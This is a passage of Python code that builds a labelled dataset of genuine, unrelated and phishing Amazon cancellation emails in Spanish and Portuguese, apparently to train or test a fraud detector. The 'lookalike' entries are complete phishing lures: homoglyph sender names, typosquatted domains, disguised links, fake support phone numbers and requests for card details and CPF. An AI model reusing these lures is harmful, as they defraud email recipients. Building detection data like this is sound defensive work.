add(kind="lookalike", language="es", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="Cyrillic a in display name, amazn-es.net, order 'will be cancelled' unless verified, no order number",
    mail=foreign({"from": ("Am\u0430zon.es", "noreply@amazn-es.net"), "to": (None, "javi.mtz@gmail.com"),
        "subject": "Aviso: su pedido será cancelado en 12 horas", "date": rdate(1), "cte": "quoted-printable",
        "text": """Estimado/a cliente:

Hemos detectado un intento de acceso no autorizado a su cuenta. Para
proteger sus datos, su último pedido ha sido retenido para revisión de
seguridad.

Su pedido será cancelado en 12 horas a menos que verifique su información
de cuenta:

https://amazn-es.net/cuenta/verificacion

Gracias por su comprensión.
Equipo de Seguridad de Amazon
"""}, "45.88.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mx.amazn-es.net",
        "spf=pass smtp.mailfrom=amazn-es.net; dkim=none; dmarc=none header.from=amazn-es.net"))

o = onum("702")
add(kind="lookalike", language="es", cause="technical_issue", states_reason=True, marketplace=None,
    note="amaz0n.com.mx (zero), 'system error' cancellation, refund form link; html-only 8bit",
    mail=foreign({"from": ("Amazon México", "pedidos@amaz0n.com.mx"), "to": ("Diego Torres", "diego.torres@outlook.com"),
        "subject": "Pedido #%s cancelado por error del sistema" % o, "date": rdate(-6), "cte": "8bit",
        "html": """<html><body style="font-family:Arial;font-size:14px">
<div style="background:#131921;color:#fff;padding:10px 16px;font-size:22px">amazon<span style="color:#febd69">.com.mx</span></div>
<div style="padding:16px">
<p>Hola Diego:</p>
<p>Debido a un <b>error en nuestro sistema de procesamiento</b>, tu pedido #%s fue cancelado y el cargo de <b>$4,299.00 MXN</b> quedó pendiente en tu tarjeta.</p>
<p>Para recibir tu reembolso completo, completa el formulario de reembolso:</p>
<p><a href="http://amaz0n.com.mx/reembolso/%s">Solicitar reembolso</a></p>
<p>Tienes 48 horas para completarlo.</p>
<p>Gracias por comprar en Amazon.com.mx</p>
</div></body></html>""" % (o, hexid(10))},
        "193.149.176.%d" % rng.randint(1, 250), "smtp.amaz0n.com.mx",
        "spf=pass smtp.mailfrom=amaz0n.com.mx; dkim=pass header.d=amaz0n.com.mx; dmarc=pass header.from=amaz0n.com.mx"))

o = onum("701")
add(kind="lookalike", language="es", cause="customer_request", states_reason=True, marketplace=None,
    note="Greek Alpha in display name, outlook.com sender, fake 'cancellation at your request' + callback number",
    mail=foreign({"from": ("\u0391mazon Mexico", "cancelaciones.amazonmx@outlook.com"), "to": ("Alejandro Hernández", "alex.hdz84@hotmail.com"),
        "subject": "Confirmación: cancelación solicitada del pedido #%s" % o, "date": rdate(-6), "cte": "base64",
        "text": """Hola Alejandro:

Recibimos tu solicitud de cancelación del pedido #%s
(Pantalla Samsung 65" Crystal UHD 4K, $11,999.00).

El pedido fue cancelado a petición del cliente.

Si tú NO solicitaste esta cancelación, comunícate de inmediato con nuestro
centro de atención al 55 4160 3928 para revertirla y proteger tu cuenta.

Atentamente,
Servicio al Cliente Amazon México
""" % o, "html": """<html><body style="font-family:Arial">
<p>Hola Alejandro:</p><p>Recibimos tu solicitud de cancelación del pedido <b>#%s</b> (Pantalla Samsung 65" Crystal UHD 4K, $11,999.00).</p>
<p>El pedido fue cancelado a petición del cliente.</p>
<p style="color:#b12704">Si tú NO solicitaste esta cancelación, comunícate de inmediato con nuestro centro de atención al <b>55 4160 3928</b> para revertirla y proteger tu cuenta.</p>
<p>Atentamente,<br>Servicio al Cliente Amazon México</p></body></html>""" % o},
        "40.92.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "NAM11-DM6-obe.outbound.protection.outlook.com",
        "spf=pass smtp.mailfrom=outlook.com; dkim=pass header.d=outlook.com; dmarc=pass header.from=outlook.com"))

add(kind="lookalike", language="es", cause="unknown", states_reason=True, marketplace=None,
    note="yahoo sender, no order number, 'will be cancelled' due to incomplete address unless fee paid",
    mail=foreign({"from": ("Amazon Envios", "envios_amazon_es@yahoo.com"), "to": (None, "lucia.garcia.m@gmail.com"),
        "subject": "Pedido Cancelado!!! Direccion incompleta", "date": rdate(1), "cte": "quoted-printable",
        "text": """Amazon

Su paquete no pudo ser entregado porque la direccion esta incompleta.
Su pedido sera CANCELADO y devuelto al almacen si no actualiza la direccion
y paga la tasa de reenvio de 1,99 EUR.

Actualizar direccion: https://bit.ly/amz-envio-es

Gracias,
Amazon Logistica
"""}, "74.6.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "sonic%d.mail.bf2.yahoo.com" % rng.randint(300, 330),
        "spf=pass smtp.mailfrom=yahoo.com; dkim=pass header.d=yahoo.com; dmarc=pass header.from=yahoo.com"))

# ---- non-notices (es)
add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace=None,
    note="MediaMarkt order cancelled (out of stock), refund to Amazon Pay",
    mail=foreign({"from": ("MediaMarkt", "noreply@mediamarkt.es"), "to": ("Javier Martínez", "jmartinez@telefonica.net"),
        "subject": "Tu pedido 1%09d ha sido cancelado" % rng.randint(0, 10**9), "date": rdate(1), "cte": "quoted-printable",
        "text": """MediaMarkt

Hola Javier:

Sentimos comunicarte que hemos tenido que cancelar tu pedido porque el
producto ya no está disponible en nuestro almacén:

    LG OLED55C44LA TV OLED 55" 4K       1.199,00 EUR

Pagaste este pedido con Amazon Pay. El reembolso se realizará
automáticamente en el método de pago asociado a tu cuenta de Amazon en un
plazo de 5 a 7 días laborables. No tienes que hacer nada.

Si tienes cualquier duda, contacta con nosotros en mediamarkt.es/ayuda.

Tu equipo MediaMarkt
""", "html": """<html><body style="font-family:Arial;font-size:14px"><div style="background:#df0000;color:#fff;padding:12px;font-size:22px;font-weight:bold">MediaMarkt</div>
<p>Hola Javier:</p><p>Sentimos comunicarte que hemos tenido que cancelar tu pedido porque el producto ya no está disponible en nuestro almacén:</p>
<table cellpadding="6" style="border:1px solid #ddd"><tr><td>LG OLED55C44LA TV OLED 55" 4K</td><td>1.199,00 EUR</td></tr></table>
<p>Pagaste este pedido con <b>Amazon Pay</b>. El reembolso se realizará automáticamente en el método de pago asociado a tu cuenta de Amazon en un plazo de 5 a 7 días laborables. No tienes que hacer nada.</p>
<p>Tu equipo MediaMarkt</p></body></html>"""},
        "185.111.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mail.mediamarkt.es",
        "spf=pass smtp.mailfrom=mediamarkt.es; dkim=pass header.d=mediamarkt.es; dmarc=pass header.from=mediamarkt.es"))

add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace=None,
    note="friend (Mexico) says she cancelled her Amazon order herself",
    mail=foreign({"from": ("Mariana Ramírez", "mariana.ramirez@prodigy.net.mx"), "to": ("Diego Torres", "diego.torres@outlook.com"),
        "subject": "Re: regalo para la tía Chela", "date": rdate(-6), "cte": "8bit",
        "text": """Hola Diego,

Oye, ya cancelé el pedido de Amazon de la cafetera, me salió que llegaba
hasta después del cumpleaños. Amazon ya me mandó el correo de que la
cancelación se hizo y me regresan el dinero a la tarjeta.

Mejor vamos el sábado a Liverpool y la compramos ahí, ¿va? Luego me pasas
tu parte.

Besos,
Mariana

El mar, Diego Torres escribió:
> ¿Ya pediste lo de la tía? Yo pongo la mitad.
"""}, "200.33.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "smtp.prodigy.net.mx"))

add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace=None,
    note="blog post notification on spotting fake Amazon cancellation mails, quotes phishing subject",
    mail=foreign({"from": ("Seguridad en Casa", "wordpress@seguridadencasa.blog"), "to": (None, "ana.lopez.r@yahoo.es"),
        "subject": "[Seguridad en Casa] Nueva entrada: ¿Te ha llegado «Su pedido de Amazon ha sido cancelado»? Cuidado", "date": rdate(1),
        "cte": "base64", "extra": [("List-Unsubscribe", "<https://seguridadencasa.blog/?unsub=%s>" % hexid(10))],
        "html": """<html><body style="font-family:Georgia,serif;max-width:620px">
<p style="color:#777">Nueva entrada en <b>Seguridad en Casa</b></p>
<h1 style="font-size:22px">¿Te ha llegado «Su pedido de Amazon ha sido cancelado»? Cuidado</h1>
<p>Esta semana varios lectores nos han reenviado el mismo correo: «Su pedido #402-88713-552 ha sido cancelado. Llame al +34 911 ...». Es un fraude de soporte técnico: el número de pedido ni siquiera tiene el formato de Amazon (tres grupos de 3, 7 y 7 cifras).</p>
<p>Cómo reconocerlo:</p>
<ul><li>El remitente es una cuenta gratuita (hotmail, gmail) o un dominio parecido como amaz0n o amazon-pedidos.</li>
<li>Te pide llamar por teléfono o responder con los datos de tu tarjeta.</li>
<li>Amenaza con bloquear tu cuenta o cobrarte una «tasa de gestión».</li></ul>
<p>Ante la duda, abre tú mismo la aplicación de Amazon y revisa «Mis pedidos».</p>
<p><a href="https://seguridadencasa.blog/2025/pedido-amazon-cancelado-fraude/">Leer la entrada completa</a></p>
<p style="font-size:11px;color:#888">Recibes este correo porque estás suscrito a Seguridad en Casa. <a href="https://seguridadencasa.blog/?unsub=1">Darse de baja</a></p>
</body></html>"""},
        "192.0.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "smtp.wordpress.com",
        "spf=pass smtp.mailfrom=seguridadencasa.blog; dkim=pass header.d=seguridadencasa.blog; dmarc=pass header.from=seguridadencasa.blog"))

add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace=None,
    note="Audible (audible.es) subscription cancelled",
    mail=foreign({"from": ("Audible", "no-reply@audible.es"), "to": ("Lucía García", "lucia.garcia.m@gmail.com"),
        "subject": "Hemos cancelado tu suscripción a Audible", "date": rdate(1), "cte": "quoted-printable",
        "text": """Audible, una empresa de Amazon

Hola, Lucía:

Te confirmamos que tu suscripción a Audible se ha cancelado. Podrás seguir
escuchando el catálogo incluido hasta el 30 de abril. Los títulos que hayas
comprado con créditos seguirán en tu biblioteca para siempre.

Ten en cuenta que los créditos que no hayas usado caducan al finalizar la
suscripción.

¿Has cambiado de opinión? Vuelve cuando quieras desde audible.es/cuenta.

El equipo de Audible
Audible nunca te pedirá tu contraseña de Amazon por correo electrónico.
"""}, "54.240.%d.%d" % (rng.randint(1, 63), rng.randint(1, 250)), "a8-30.smtp-out.amazonses.com",
        "spf=pass smtp.mailfrom=audible.es; dkim=pass header.d=audible.es; dmarc=pass header.from=audible.es"))

o = onum("701")
add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace="amazon.com.mx",
    note="genuine amazon.com.mx installation appointment cancelled, order still active",
    mail=genuine({"from": ("Amazon.com.mx", "servicios@amazon.com.mx"), "reply_to": "no-reply@amazon.com.mx",
        "to": ("Alejandro Hernández", "alex.hdz84@hotmail.com"),
        "subject": "Se canceló tu cita de instalación - reprograma tu servicio", "date": rdate(-6), "cte": "quoted-printable",
        "html": amz_html("amazon.com.mx", "mx", "Cita de instalación cancelada", o, "Hola Alejandro:",
            ["El técnico asignado canceló la cita de instalación programada para el <b>martes 8 de abril, de 9:00 a 13:00</b>.",
             "Tu pedido sigue activo y el minisplit ya fue entregado; solo necesitas elegir una nueva fecha para la instalación en <a href=\"https://www.amazon.com.mx/gp/css/order-history\">Mis pedidos</a>.",
             "Lamentamos las molestias."],
            [("Minisplit Mirage Inverter 1 tonelada 220V con instalación", "Amazon México", 1, "$8,999.00")],
            FOOT_ES["amazon.com.mx"], heading="Servicio relacionado")}, "amazon.com.mx", True))

o = onum("405")
add(kind="non_notice", language="es", cause=None, states_reason=False, marketplace="amazon.es",
    note="genuine payment revision reminder: update card or order will be cancelled (not yet)",
    mail=genuine({"from": ("Amazon.es", "payments-update@amazon.es"), "reply_to": "no-reply@amazon.es",
        "to": ("Ana López", "ana.lopez.r@yahoo.es"),
        "subject": "Revisa tu pago: pedido n.º %s" % o, "date": rdate(1), "cte": "base64",
        "text": amz_text("amazon.es", "es", "Revisión del pago", o, "Hola, Ana:",
            ["No hemos podido cobrar el importe de tu pedido con tu tarjeta Visa terminada en 5530. Esto puede ocurrir si la tarjeta ha caducado o si tu banco ha rechazado la operación.",
             "Para que podamos enviar tu pedido, actualiza tu método de pago antes del <b>12 de marzo</b> en <a href=\"https://www.amazon.es/gp/css/order-history\">Mis pedidos</a> (opción «Revisar el método de pago»).",
             "Si no recibimos un método de pago válido antes de esa fecha, tu pedido se cancelará."],
            [("Kindle Paperwhite (16 GB), pantalla de 7\", negro", "Amazon EU S.à r.l.", 1, "169,99 €")],
            FOOT_ES["amazon.es"], heading="Productos pendientes de pago"),
        "html": amz_html("amazon.es", "es", "Revisión del pago", o, "Hola, Ana:",
            ["No hemos podido cobrar el importe de tu pedido con tu tarjeta Visa terminada en 5530. Esto puede ocurrir si la tarjeta ha caducado o si tu banco ha rechazado la operación.",
             "Para que podamos enviar tu pedido, actualiza tu método de pago antes del <b>12 de marzo</b> en <a href=\"https://www.amazon.es/gp/css/order-history\">Mis pedidos</a> (opción «Revisar el método de pago»).",
             "Si no recibimos un método de pago válido antes de esa fecha, tu pedido se cancelará."],
            [("Kindle Paperwhite (16 GB), pantalla de 7\", negro", "Amazon EU S.à r.l.", 1, "169,99 €")],
            FOOT_ES["amazon.es"], heading="Productos pendientes de pago")}, "amazon.es", True))

# ================================================================= PORTUGUESE (BR)
DOM = "amazon.com.br"
FOOT_PT = [
    "Este e-mail foi enviado de um endereço que não pode receber mensagens. Por favor, não responda.",
    "A Amazon.com.br nunca solicitará sua senha, os dados do seu cartão ou códigos de verificação por e-mail, SMS ou telefone. Se você receber um e-mail suspeito em nome da Amazon, não clique em nenhum link e <a href=\"https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">denuncie aqui</a>.",
    "Se o número do seu cartão mudou ou ele venceu, atualize suas informações de pagamento em <a href=\"https://www.amazon.com.br/cpe/yourpayments/wallet\">Sua conta</a>.",
    "Precisa de ajuda? Acesse a <a href=\"https://www.amazon.com.br/gp/help/customer/display.html\">Central de Ajuda</a>.",
    "Amazon Serviços de Varejo do Brasil Ltda. CNPJ 15.436.940/0001-03. Av. Juscelino Kubitschek, 2041, Torre E, São Paulo - SP.",
]

# ---- notices (pt)
o = onum("701")
items = [("Echo Dot 5ª geração, Smart speaker com Alexa, cor Preta", "Amazon.com.br", 1, "R$ 424,15"),
         ("Lâmpada inteligente Positivo Casa Inteligente, 10 W", "Loja Ilumina Já", 2, "R$ 119,80")]
paras = ["Infelizmente, precisamos cancelar o item abaixo do seu pedido.",
         "O vendedor <b>Loja Ilumina Já</b> nos informou que o produto está fora de estoque e que não será possível atender ao pedido. Você não será cobrado por este item.",
         "Os demais itens do pedido não foram afetados e serão enviados normalmente. Acompanhe em <a href=\"https://www.amazon.com.br/gp/css/order-history\">Seus pedidos</a>."]
add(kind="notice", language="pt", cause="inventory_shortage", states_reason=True, marketplace="amazon.com.br",
    note="marketplace seller out of stock, partial cancellation; alt QP",
    mail=genuine({"from": ("Amazon.com.br", "auto-confirm@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("João Silva", "joao.silva@uol.com.br"),
        "subject": "1 item foi cancelado do seu pedido Amazon.com.br nº %s" % o, "date": rdate(-3), "cte": "quoted-printable",
        "text": amz_text(DOM, "pt", "Item cancelado", o, "Olá, João,", paras, items[1:], FOOT_PT),
        "html": amz_html(DOM, "pt", "Item cancelado", o, "Olá, João,", paras, items[1:], FOOT_PT)}, DOM, True))

o = onum("702")
add(kind="notice", language="pt", cause="payment_issue", states_reason=True, marketplace="amazon.com.br",
    note="boleto not paid by due date; text-only iso-8859-1 base64",
    mail=genuine({"from": ("Amazon.com.br", "payments-messages@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Ana Paula Souza", "anapaula.souza@bol.com.br"),
        "subject": "Seu pedido Amazon.com.br nº %s foi cancelado" % o, "date": rdate(-3),
        "charset": "iso-8859-1", "hcharset": "iso-8859-1", "cte": "base64",
        "text": """Amazon.com.br
Seus pedidos | Sua conta | Amazon.com.br
------------------------------------------------------------------------

Olá, Ana Paula,

Não identificamos o pagamento do boleto bancário referente ao pedido
nº %s até a data de vencimento. Por isso, o pedido foi cancelado.

Itens cancelados:
    1 x Air Fryer Mondial AFN-40-BI, 4 L, 1500 W          R$ 329,90
    1 x Jogo de panelas Tramontina Turim, 5 peças          R$ 289,00

Caso você já tenha pago o boleto após o vencimento, o valor será devolvido
em até 10 dias úteis na conta bancária informada em Sua conta.

Se ainda deseja os produtos, faça um novo pedido. Você também pode pagar com
cartão de crédito ou Pix para aprovação imediata.

Atenciosamente,
Atendimento ao Cliente Amazon.com.br

------------------------------------------------------------------------
A Amazon.com.br nunca solicitará sua senha ou dados do cartão por e-mail.
Denuncie e-mails suspeitos:
https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV
Se o número do seu cartão mudou, atualize-o em Sua conta.
Este e-mail foi enviado de um endereço que não pode receber mensagens.
""" % o}, DOM, False))

o = onum("701")
items = [("Notebook Lenovo IdeaPad Slim 3i, Intel Core i5, 16 GB, SSD 512 GB, 15,6\"", "Amazon.com.br", 1, "R$ 279,00")]
paras = ["Cancelamos o seu pedido nº %s." % o,
         "Identificamos um erro técnico no cadastro do produto abaixo: o preço exibido no site (R$ 279,00) não correspondia ao preço correto (R$ 3.279,00). Por causa dessa falha no anúncio, não foi possível concluir a venda.",
         "Nenhum valor foi cobrado. Se o pagamento já tiver sido processado, o estorno será feito no mesmo meio de pagamento.",
         "Pedimos desculpas pelo transtorno."]
add(kind="notice", language="pt", cause="technical_issue", states_reason=True, marketplace="amazon.com.br",
    note="pricing / listing error; alt base64",
    mail=genuine({"from": ("Amazon.com.br", "order-update@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Rafael Oliveira", "rafael.oliveira@gmail.com"),
        "subject": "Seu pedido Amazon.com.br nº %s foi cancelado" % o, "date": rdate(-3), "cte": "base64",
        "text": amz_text(DOM, "pt", "Pedido cancelado", o, "Olá, Rafael,", paras, items, FOOT_PT),
        "html": amz_html(DOM, "pt", "Pedido cancelado", o, "Olá, Rafael,", paras, items, FOOT_PT)}, DOM, True))

o = onum("702")
items = [("Apple iPhone 16 Pro (256 GB) - Titânio-deserto", "Amazon.com.br", 2, "R$ 19.998,00")]
paras = ["Durante uma verificação de segurança, identificamos atividade incomum na sua conta. Como precaução, colocamos sua conta em espera e cancelamos o pedido abaixo.",
         "Para reativar sua conta, acesse www.amazon.com.br digitando o endereço no navegador, faça login e siga as instruções para confirmar sua identidade e seu método de pagamento. Nenhum valor foi cobrado.",
         "Nunca pediremos que você informe esses dados por e-mail ou telefone."]
add(kind="notice", language="pt", cause="fraud_prevention", states_reason=True, marketplace="amazon.com.br",
    note="unusual activity, account on hold, verify identity; html-only 8bit",
    mail=genuine({"from": ("Amazon.com.br", "cs-reply@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Camila Santos", "camila.santos@terra.com.br"),
        "subject": "Seu pedido Amazon.com.br nº %s foi cancelado" % o, "date": rdate(-3), "cte": "8bit",
        "html": amz_html(DOM, "pt", "Pedido cancelado", o, "Olá, Camila,", paras, items, FOOT_PT)}, DOM, False))

o = onum("701")
add(kind="notice", language="pt", cause="customer_request", states_reason=True, marketplace="amazon.com.br",
    note="successful cancellation at customer's request, explicit reason line; text-only QP",
    mail=genuine({"from": ("Amazon.com.br", "auto-confirm@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Bruno Ferreira", "bruno.ferreira@hotmail.com"),
        "subject": "Cancelamento bem-sucedido de \"Kindle 11ª geração...\" do seu pedido Amazon.com.br", "date": rdate(-3),
        "cte": "quoted-printable",
        "text": """Amazon.com.br
------------------------------------------------------------------------
Cancelamento confirmado
Pedido nº %s
------------------------------------------------------------------------

Olá, Bruno,

Conforme solicitado, cancelamos o seguinte item do seu pedido:

    Kindle 11ª geração, 16 GB, tela antirreflexo de 6", Preto
    Quantidade: 1
    Motivo do cancelamento: cancelado pelo cliente

Se você já foi cobrado, o reembolso será feito no método de pagamento
original em até 5 dias úteis. Para compras parceladas no cartão, o estorno
pode aparecer em até duas faturas.

Consulte seus pedidos em https://www.amazon.com.br/gp/css/order-history

Esperamos vê-lo novamente em breve.
Amazon.com.br

------------------------------------------------------------------------
A Amazon.com.br nunca solicitará sua senha ou os dados do seu cartão por
e-mail. Na dúvida, acesse
https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV
Se o número do seu cartão mudou, atualize-o em Sua conta.
""" % o}, DOM, True))

o = onum("702")
paras = ["Informamos que o pedido nº %s foi cancelado." % o,
         "Caso algum valor tenha sido cobrado, ele será estornado no mesmo meio de pagamento em até 10 dias úteis.",
         "Em caso de dúvidas, acesse <a href=\"https://www.amazon.com.br/gp/css/order-history\">Seus pedidos</a> ou fale com o <a href=\"https://www.amazon.com.br/contact-us\">Atendimento ao Cliente</a>."]
items = [("Cadeira Gamer ThunderX3 TGC12, Preta/Vermelha", "Amazon.com.br", 1, "R$ 899,90")]
add(kind="notice", language="pt", cause="unknown", states_reason=False, marketplace="amazon.com.br",
    note="bulk 'Informações da Amazon.com.br' subject, no reason given; alt iso-8859-1 QP",
    mail=genuine({"from": ("Amazon.com.br", "order-update@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Larissa Costa", "larissa.costa@yahoo.com.br"),
        "subject": "Informações da Amazon.com.br", "date": rdate(-3),
        "charset": "iso-8859-1", "hcharset": "iso-8859-1", "cte": "quoted-printable",
        "text": amz_text(DOM, "pt", "Pedido cancelado", o, "Olá, Larissa,", paras, items, FOOT_PT),
        "html": amz_html(DOM, "pt", "Pedido cancelado", o, "Olá, Larissa,", paras, items, FOOT_PT)}, DOM, False))

# ---- lookalikes (pt)
o = onum("701")
add(kind="lookalike", language="pt", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="gmail sender, callback 0800 number, 'suspicious purchase cancelled'",
    mail=foreign({"from": ("Amazon Brasil Segurança", "seguranca.amazonbr@gmail.com"), "to": (None, "joao.silva@uol.com.br"),
        "subject": "Compra suspeita cancelada - pedido %s" % o, "date": rdate(-3), "cte": "8bit",
        "text": """Prezado cliente,

Identificamos uma compra suspeita em sua conta:

  Pedido: %s
  Produto: Smart TV Samsung 75" Neo QLED 4K
  Valor: R$ 8.499,00 (10x no cartão)

Por segurança, o pedido foi cancelado, porém o valor ainda pode ser
debitado na sua fatura.

Se você não reconhece esta compra, ligue AGORA para nossa central de
segurança: 0800 591 4427 (24h). Tenha seu cartão em mãos.

Equipe de Segurança Amazon
""" % o}, "209.85.128.%d" % rng.randint(1, 250), "mail-wm1-f%d.google.com" % rng.randint(40, 70),
        "spf=pass smtp.mailfrom=gmail.com; dkim=pass header.d=gmail.com; dmarc=pass header.from=gmail.com"))

o = onum("702")
add(kind="lookalike", language="pt", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="amazon-pedidos.help, account suspended + order cancelled + unlock code; polished html-only",
    mail=foreign({"from": ("Amazon.com.br", "conta@amazon-pedidos.help"), "to": ("Ana Paula Souza", "anapaula.souza@bol.com.br"),
        "subject": "Sua conta foi suspensa e o pedido %s cancelado" % o, "date": rdate(-3), "cte": "base64",
        "html": """<!DOCTYPE html><html><body style="margin:0;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff"><tr><td style="padding:20px;border-bottom:2px solid #ff9900">
<img src="https://amazon-pedidos.help/img/logo_br.png" alt="amazon.com.br" width="120"></td></tr>
<tr><td style="padding:20px;font-size:15px">
<p>Olá, Ana Paula,</p>
<p>Sua conta Amazon foi <b>suspensa temporariamente</b> por motivos de segurança, e o pedido <b>%s</b> foi cancelado.</p>
<p>Para desbloquear sua conta e recuperar o pedido, use o código abaixo na página de desbloqueio:</p>
<p style="text-align:center;font-size:28px;letter-spacing:5px;background:#f7f7f7;padding:14px"><b>BR-90417</b></p>
<p style="text-align:center"><a href="https://amazon-pedidos.help/br/desbloqueio" style="background:#ffd814;padding:10px 28px;color:#0f1111;text-decoration:none;border-radius:8px">Desbloquear conta</a></p>
<p>Se a conta não for desbloqueada em 48 horas, ela será encerrada.</p>
<p>Atenciosamente,<br>Amazon.com.br</p></td></tr>
<tr><td style="padding:16px;font-size:11px;color:#888">A Amazon nunca solicitará sua senha por e-mail. © 1996-2025, Amazon.com, Inc. ou suas afiliadas.</td></tr>
</table></body></html>""" % o},
        "185.241.5.%d" % rng.randint(1, 250), "mail.amazon-pedidos.help",
        "spf=pass smtp.mailfrom=amazon-pedidos.help; dkim=pass header.d=amazon-pedidos.help; dmarc=pass header.from=amazon-pedidos.help"))

add(kind="lookalike", language="pt", cause="payment_issue", states_reason=True, marketplace=None,
    note="outlook sender, reply with card details + CPF, malformed order number; crude",
    mail=foreign({"from": ("Amazon Pagamentos", "amazon.pagamentos.br@outlook.com"), "to": (None, "rafael.oliveira@gmail.com"),
        "subject": "URGENTE: pedido cancelado por falha no pagamento", "date": rdate(-3), "cte": "quoted-printable",
        "text": """Ola cliente

Seu pedido #701-2234-88 foi cancelado pois o pagamento nao foi aprovado
pela operadora do cartao.

Para reprocessar responda este email com os dados:
Nome completo / CPF / numero do cartao / validade / codigo de seguranca

Caso nao responda em 24 horas sua conta sera bloqueada.

Att
Amazon Pagamentos
"""}, "40.92.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "BRA01-CP2-obe.outbound.protection.outlook.com",
        "spf=pass smtp.mailfrom=outlook.com; dkim=pass header.d=outlook.com; dmarc=pass header.from=outlook.com"))

o = onum("701")
evil = "https://atendimento-cliente.xyz/br/estorno?p=%s" % hexid(18)
paras = ["O produto do seu pedido está esgotado e o vendedor não conseguiu atender à compra. Por isso, o pedido foi cancelado.",
         "Para receber o estorno de <b>R$ 1.899,00</b>, confirme seus dados de pagamento em até 48 horas em Seus pedidos:",
         '<a href="%s">https://www.amazon.com.br/gp/css/order-history?ref_=estorno</a>' % evil]
items = [("Console Nintendo Switch OLED, Branco", "Amazon.com.br", 1, "R$ 1.899,00")]
add(kind="lookalike", language="pt", cause="inventory_shortage", states_reason=True, marketplace=None,
    note="amazon.com.br.atendimento-cliente.xyz sender, link text amazon.com.br href elsewhere; copy of real template",
    mail=foreign({"from": ("Amazon.com.br", "pedidos@amazon.com.br.atendimento-cliente.xyz"), "to": ("Bruno Ferreira", "bruno.ferreira@hotmail.com"),
        "subject": "Seu pedido Amazon.com.br nº %s foi cancelado" % o, "date": rdate(-3), "cte": "quoted-printable",
        "text": amz_text(DOM, "pt", "Pedido cancelado", o, "Olá, Bruno,", paras, items, FOOT_PT[1:3]),
        "html": amz_html(DOM, "pt", "Pedido cancelado", o, "Olá, Bruno,", paras, items, FOOT_PT[1:3], base="https://atendimento-cliente.xyz/br")},
        "89.185.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mx.atendimento-cliente.xyz",
        "spf=pass smtp.mailfrom=amazon.com.br.atendimento-cliente.xyz; dkim=none; dmarc=none header.from=amazon.com.br.atendimento-cliente.xyz"))

add(kind="lookalike", language="pt", cause="payment_issue", states_reason=True, marketplace=None,
    note="Cyrillic o in display name, amzn-br-pagamentos.com, 'will be cancelled' unless Pix paid, no order number",
    mail=foreign({"from": ("Amaz\u043en.com.br", "nao-responda@amzn-br-pagamentos.com"), "to": (None, "camila.santos@terra.com.br"),
        "subject": "Seu pedido será cancelado hoje - pagamento pendente", "date": rdate(-3), "cte": "quoted-printable",
        "html": """<html><body style="font-family:Arial;font-size:14px;color:#0f1111">
<div style="max-width:560px;margin:auto;border:1px solid #ddd;padding:22px">
<div style="font-size:24px;font-weight:bold">amazon<span style="color:#ff9900">.com.br</span></div>
<p>Olá,</p>
<p>O pagamento do seu último pedido não foi confirmado pelo banco.</p>
<p><b>Seu pedido será cancelado hoje às 23:59</b> se o pagamento não for concluído. Para garantir sua compra, pague agora via Pix com 10% de desconto:</p>
<p style="text-align:center"><a href="https://amzn-br-pagamentos.com/pix/checkout" style="background:#32bcad;color:#fff;padding:10px 24px;text-decoration:none;border-radius:4px">Pagar com Pix</a></p>
<p style="font-size:12px;color:#666">Você está recebendo este e-mail porque é cliente Amazon.com.br.</p>
</div></body></html>"""},
        "147.45.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "srv.amzn-br-pagamentos.com",
        "spf=softfail smtp.mailfrom=amzn-br-pagamentos.com; dkim=none; dmarc=none header.from=amzn-br-pagamentos.com"))

o = onum("702")
add(kind="lookalike", language="pt", cause="technical_issue", states_reason=True, marketplace=None,
    note="amaz0n-br.com (zero), 'system glitch' cancellation, compensation bait; alt base64",
    mail=foreign({"from": ("Amazon Brasil", "pedidos@amaz0n-br.com"), "to": ("Larissa Costa", "larissa.costa@yahoo.com.br"),
        "subject": "Pedido %s cancelado por instabilidade no sistema" % o, "date": rdate(-3), "cte": "base64",
        "text": """Olá, Larissa,

Devido a uma instabilidade em nosso sistema, seu pedido %s foi cancelado
automaticamente.

Como compensação, você tem direito a um cupom de R$ 200,00. Para resgatar o
cupom e receber o reembolso, acesse:
http://amaz0n-br.com/resgate

Amazon Brasil
""" % o, "html": """<html><body style="font-family:Arial">
<p>Olá, Larissa,</p><p>Devido a uma <b>instabilidade em nosso sistema</b>, seu pedido %s foi cancelado automaticamente.</p>
<p>Como compensação, você tem direito a um cupom de <b>R$ 200,00</b>.</p>
<p><a href="http://amaz0n-br.com/resgate">Resgatar cupom e reembolso</a></p><p>Amazon Brasil</p></body></html>""" % o},
        "179.43.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "smtp.amaz0n-br.com",
        "spf=pass smtp.mailfrom=amaz0n-br.com; dkim=pass header.d=amaz0n-br.com; dmarc=pass header.from=amaz0n-br.com"))

o = onum("701")
add(kind="lookalike", language="pt", cause="customer_request", states_reason=True, marketplace=None,
    note="Greek Alpha in display name, yahoo.com.br sender, fake 'cancellation requested by you, not you? click'",
